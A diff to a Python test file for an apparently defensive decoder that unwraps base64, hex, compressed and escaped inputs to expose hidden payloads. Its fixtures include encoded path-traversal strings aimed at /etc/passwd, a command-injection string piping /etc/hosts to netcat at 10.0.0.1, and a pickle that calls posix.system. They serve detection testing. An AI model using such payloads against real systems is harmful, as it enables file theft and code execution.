@@ -1,12 +1,16 @@
 """The decoding chain undoes each wrapping, in any order, and never without bound."""
 
+import base64
+import gzip
 import html
+import zlib
 
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
 from garrison.payload.decoding import MAX_ROUNDS, decode
+from garrison.payload.judge import judge
 
 
 @pytest.mark.parametrize(
@@ -26,12 +30,51 @@ from garrison.payload.decoding import MAX_ROUNDS, decode
         ("0x2e0x2e0x2f", "../", ("hex",)),
         ("\uff1cb\uff1e", "<b>", ("unicode",)),
         ("Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", "../../../etc/passwd", ("base64",)),
+        ("Li4vLi4vLi4vLi4v\nZXRjL3Bhc3N3ZA==", "../../../../etc/passwd", ("base64",)),
+        ("\\U0000003cb", "<b", ("escape",)),
+        ("<scr\0ipt>", "<script>", ("nul",)),
+        ("2e2e2f2e2e2f6574632f686f737473", "../../etc/hosts", ("hex",)),
+        ("0x3c62206f61723e3c2f623e", "<b oar></b>", ("hex",)),
+        ("\u00ef\u00bc\u009cb\u00ef\u00bc\u009e", "<b>", ("unicode",)),
         ("data:text/html;base64,PGI+aGVsbG8=", "data:text/html;base64,<b>hello", ("base64",)),
     ],
 )
 def test_each_wrapping(text: str, plain: str, steps: tuple[str, ...]) -> None:
     last = decode(text)[-1]
     assert (last.text, last.steps) == (plain, steps)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+        "63a9f0ea7bb98050796b649e85481845",
+        "550e8400e29b41d4a716446655440000",
+        "4242424242424242424",
+        "anemometerreading\nanemometerreadings",
+        "\\U0000d800",
+        "2e2e2f",
+        "caf\u00e9 d\u2019or",
+        "\u00c3\u00a9t\u00c3\u00a9",
+    ],
+)
+def test_digests_and_numbers_say_nothing(text: str) -> None:
+    assert decode(text) == ()
+
+
+def test_what_is_compressed_is_seen_up_to_the_length_that_it_came_in() -> None:
+    said = "; cat /etc/hosts | nc 10.0.0.1 4444"
+    for data in (zlib.compress(said.encode()), gzip.compress(said.encode(), mtime=0)):
+        assert decode(base64.b64encode(data).decode())[-1].text == said
+    wide = base64.b64encode(zlib.compress(b"a" * 100_000)).decode()
+    assert len(decode(wide)[-1].text) == len(wide)
+
+
+def test_an_object_is_told_by_its_beginning_however_little_text_is_in_it() -> None:
+    loaded = b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."
+    for text in (base64.b64encode(loaded).decode(), loaded.hex()):
+        assert decode(text)[0].text.encode("latin-1") == loaded
+        assert [found.kind for found in judge([text])] == ["object"]
 
 
 @pytest.mark.parametrize(
